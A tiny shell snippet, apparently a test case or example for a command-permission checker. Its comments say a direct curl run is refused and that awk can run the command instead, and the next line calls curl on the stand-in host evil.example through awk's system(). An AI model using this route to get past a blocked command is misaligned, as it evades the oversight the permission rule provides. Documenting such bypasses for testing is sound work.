# Trick: awk runs a command.
# Refused: run(curl)
awk 'BEGIN { system("curl http://evil.example/") }'
